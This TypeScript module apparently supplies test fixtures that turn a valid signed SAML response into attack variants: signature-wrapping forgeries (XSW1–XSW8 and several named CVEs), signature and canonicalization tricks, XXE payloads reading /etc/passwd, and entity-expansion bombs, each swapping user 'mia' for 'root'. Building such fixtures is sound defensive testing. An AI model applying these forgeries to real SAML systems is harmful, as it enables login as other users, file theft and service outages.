// What thieves make of a good SAML answer. Each takes the answer as it came and gives back what would be sent.
import { createRequire } from 'node:module';

const ds = 'http://www.w3.org/2000/09/xmldsig#';

interface SignedXml {
  addReference(reference: { xpath: string; transforms: string[]; digestAlgorithm: string }): void;
  computeSignature(xml: string, options: object): void;
  getSignedXml(): string;
  enableHMAC(): void;
}

const ofLibrary = createRequire(createRequire(import.meta.url).resolve('@node-saml/node-saml'));
const { SignedXml } = ofLibrary('xml-crypto') as { SignedXml: new (options: object) => SignedXml };

export interface Signing {
  key: string;
  method?: string;
  digest?: string;
  of?: 'Assertion' | 'Response';
  transforms?: string[];
}

/** Signs anew, after the signatures that were there have been taken out. */
export function signed(xml: string, { key, method, digest, of = 'Assertion', transforms }: Signing): string {
  const signer = new SignedXml({
    privateKey: key,
    signatureAlgorithm: method ?? 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  if (method?.includes('hmac')) signer.enableHMAC();
  const xpath = of === 'Assertion' ? "//*[local-name(.)='Assertion']" : "/*[local-name(.)='Response']";
  signer.addReference({
    xpath,
    transforms: transforms ?? [`${ds}enveloped-signature`, 'http://www.w3.org/2001/10/xml-exc-c14n#'],
    digestAlgorithm: digest ?? 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  signer.computeSignature(unsigned(xml), {
    location: { reference: `${xpath}/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return signer.getSignedXml();
}

export const unsigned = (xml: string): string => xml.replace(/<(ds:)?Signature[ >].*?<\/(ds:)?Signature>/gs, '');

const cutOut = (xml: string, pattern: RegExp): string => {
  const found = pattern.exec(xml)?.[0];
  if (!found) throw new Error(`nothing like ${pattern}`);
  return found;
};

export const assertionOf = (xml: string): string => cutOut(xml, /<saml:Assertion.*<\/saml:Assertion>/s);
export const signatureOf = (xml: string): string => cutOut(xml, /<Signature .*?<\/Signature>/s);

/** Somebody else, under another id. */
export const evil = (xml: string): string =>
  xml
    .replaceAll('id-of-mia', 'id-of-root')
    .replaceAll('mia@', 'root@')
    .replace(/ ID="_/, ' ID="_evil');

const evilAssertion = (xml: string) => unsigned(evil(assertionOf(xml)));

/** Of an answer whose response is signed. */
export const responseWrappings: Record<string, (xml: string) => string> = {
  'XSW1 the signed response inside of the signature of another one': (xml) => {
    const signature = signatureOf(xml);
    const inner = unsigned(xml);
    return evil(xml).replace(signature, signature.replace('</Signature>', `<Object>${inner}</Object></Signature>`));
  },
  'XSW2 the signed response before the signature of another one': (xml) => {
    const signature = signatureOf(xml);
    return evil(xml).replace(signature, `${unsigned(xml)}${signature}`);
  },
  'XSW the signed response as a child of another one': (xml) =>
    evil(unsigned(xml)).replace('</samlp:Response>', `${xml}</samlp:Response>`),
};

/** Of an answer whose assertion is signed. */
export const assertionWrappings: Record<string, (xml: string) => string> = {
  'XSW3 another assertion before the signed one': (xml) =>
    xml.replace('<saml:Assertion', `${evilAssertion(xml)}<saml:Assertion`),
  'XSW3 another assertion behind the signed one (CVE-2021-28091)': (xml) =>
    xml.replace('</samlp:Response>', `${evilAssertion(xml)}</samlp:Response>`),
  'XSW4 the signed assertion inside of another one': (xml) =>
    xml.replace(
      assertionOf(xml),
      evilAssertion(xml).replace('</saml:Assertion>', `${assertionOf(xml)}</saml:Assertion>`),
    ),
  'XSW5 the signature at another assertion, the signed one at the end': (xml) =>
    xml.replace(assertionOf(xml), evil(assertionOf(xml)) + unsigned(assertionOf(xml))),
  'XSW6 the signed assertion inside of the signature at another one': (xml) => {
    const signature = signatureOf(xml);
    const wrapping = signature.replace('</Signature>', `${unsigned(assertionOf(xml))}</Signature>`);
    return xml.replace(assertionOf(xml), evil(assertionOf(xml)).replace(signature, wrapping));
  },
  'XSW7 another assertion of the same id in Extensions': (xml) => {
    const same = unsigned(assertionOf(xml)).replaceAll('id-of-mia', 'id-of-root');
    return xml.replace('<samlp:Status>', `<samlp:Extensions>${same}</samlp:Extensions><samlp:Status>`);
  },
  'XSW8 the signed assertion in an Object of the signature at another one': (xml) => {
    const signature = signatureOf(xml);
    const wrapping = signature.replace('</Signature>', `<Object>${unsigned(assertionOf(xml))}</Object></Signature>`);
    return xml.replace(assertionOf(xml), evil(assertionOf(xml)).replace(signature, wrapping));
  },
  'XSW the signed assertion in StatusDetail (CVE-2024-45409)': (xml) =>
    xml
      .replace(assertionOf(xml), evil(assertionOf(xml)))
      .replace('</samlp:Status>', `<samlp:StatusDetail>${assertionOf(xml)}</samlp:StatusDetail></samlp:Status>`),
  'XSW a second digest that another reader finds first (CVE-2024-45409)': (xml) =>
    evilInPlace(xml).replace(
      '<SignedInfo>',
      `<Object><DigestValue xmlns="${ds}">AAAA</DigestValue></Object><SignedInfo>`,
    ),
  'XSW an assertion of no namespace': (xml) =>
    xml.replace(
      '<saml:Assertion',
      `${evilAssertion(xml)
        .replaceAll('saml:', '')
        .replace(/xmlns="[^"]*"/, '')}<saml:Assertion`,
    ),
  'XSW two roots (CVE-2022-39353, CVE-2022-39299)': (xml) => `${evil(unsigned(xml))}${xml}`,
  'XSW two roots, the signed one first (CVE-2022-39300)': (xml) => `${xml}${evil(unsigned(xml))}`,
  'one id of two elements': (xml) =>
    xml.replace(/(<samlp:Response [^>]*) ID="[^"]*"/, `$1 ID="${/<saml:Assertion[^>]* ID="([^"]*)"/.exec(xml)?.[1]}"`),
};

/** The person is exchanged, and nothing else. */
export const evilInPlace = (xml: string): string => xml.replaceAll('id-of-mia', 'id-of-root');

/** Of the signature, for advisories of libraries. */
export const signatureTricks: Record<string, [string, (xml: string) => string]> = {
  'CVE-2025-29774 two SignedInfo': [
    'malformed',
    (xml) => evilInPlace(xml).replace('<SignedInfo>', `<SignedInfo><Reference URI=""/></SignedInfo><SignedInfo>`),
  ],
  'CVE-2025-29775 a comment in the digest': [
    'malformed',
    (xml) => evilInPlace(xml).replace('<DigestValue>', '<DigestValue>AAAA<!---->'),
  ],
  'CVE-2021-39171 transforms without end': [
    'malformed',
    (xml) =>
      xml.replace(
        /<Transform /,
        `${'<Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'.repeat(200)}<Transform `,
      ),
  ],
  'CVE-2025-54369 a character less in the name': ['signature', (xml) => xml.replace('id-of-mia', 'id-of-mi')],
  'CVE-2025-66568 a document that cannot be made canonical': [
    'signature',
    (xml) => evilInPlace(xml).replace('<saml:Subject>', '<saml:Subject xmlns:a="1">'),
  ],
  'the whole document as what is signed': [
    'malformed',
    (xml) => xml.replace(/Reference URI="[^"]*"/, 'Reference URI=""'),
  ],
  'no reference at all': ['malformed', (xml) => evilInPlace(xml).replace(/<Reference .*<\/Reference>/s, '')],
  'an xpath transform': [
    'algorithm',
    (xml) => xml.replace(`${ds}enveloped-signature`, 'http://www.w3.org/TR/1999/REC-xpath-19991116'),
  ],
  'canonical with comments': ['algorithm', (xml) => xml.replaceAll('xml-exc-c14n#"', 'xml-exc-c14n#WithComments"')],
  'the digest is SHA-1': ['algorithm', (xml) => xml.replace('http://www.w3.org/2001/04/xmlenc#sha256', `${ds}sha1`)],
  'the signature is of another kind (CVE-2020-5390)': [
    'malformed',
    (xml) => xml.replace(' xmlns="http://www.w3.org/2000/09/xmldsig#"', ' xmlns="urn:x"'),
  ],
  'CVE-2021-21239 a key of the thief as KeyValue': [
    'signature',
    (xml) =>
      evilInPlace(xml).replace(
        /<X509Data>.*<\/X509Data>/s,
        '<KeyValue><RSAKeyValue><Modulus>AQAB</Modulus><Exponent>AQAB</Exponent></RSAKeyValue></KeyValue>',
      ),
  ],
};

const bomb = Array.from({ length: 9 }, (_, i) => `<!ENTITY b${i + 1} "${`&b${i};`.repeat(10)}">`).join('');

/** Of XML itself. */
export const xmlTricks: Record<string, (xml: string) => string> = {
  'XXE a file': (xml) => `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml.replace('>id-of-mia<', '>&x;<')}`,
  'XXE an address': (xml) => `<!DOCTYPE r SYSTEM "http://127.0.0.1:9/evil.dtd">${xml}`,
  'XXE a parameter entity': (xml) => `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x"> %x;]>${xml}`,
  'billion laughs': (xml) => `<!DOCTYPE r [<!ENTITY b0 "lol">${bomb}]>${xml.replace('>id-of-mia<', '>&b9;<')}`,
  'an entity that is not declared': (xml) => xml.replace('>id-of-mia<', '>&x;<'),
  'a comment in NameID': (xml) => xml.replace('>id-of-mia<', '>id-of-root<!-- -->.evil<'),
  'a processing instruction in NameID': (xml) => xml.replace('>id-of-mia<', '>id-of-root<?x?>.evil<'),
  'CDATA in NameID': (xml) => xml.replace('>id-of-mia<', '><![CDATA[id-of-root]]><'),
  'a document type behind (CVE-2025-25291)': (xml) => `${xml}<!DOCTYPE r>`,
  'a document type of its own elements (CVE-2025-25292)': (xml) =>
    `<!DOCTYPE samlp:Response [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>${xml}`,
  'a prefix that is empty (CVE-2020-29509)': (xml) => xml.replace('<saml:Subject>', '<:Subject>'),
  'an attribute twice': (xml) => xml.replace('<samlp:Response ', '<samlp:Response ID="_evil" '),
  'depth without end': (xml) => xml.replace('<samlp:Status>', `${'<a>'.repeat(50_000)}<samlp:Status>`),
  'many elements': (xml) =>
    xml.replace('<samlp:Status>', `<samlp:Extensions>${'<a/>'.repeat(20_000)}</samlp:Extensions><samlp:Status>`),
  'many attributes': (xml) =>
    xml.replace('<samlp:Response ', `<samlp:Response ${Array.from({ length: 500 }, (_, i) => `a${i}=""`).join(' ')} `),
  'NUL in NameID': (xml) => xml.replace('>id-of-mia<', '>id-of-mia&#0;<'),
  'another encoding': (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
  'text behind': (xml) => `${xml}evil`,
  nothing: () => '',
  'no XML': () => 'evil',
};
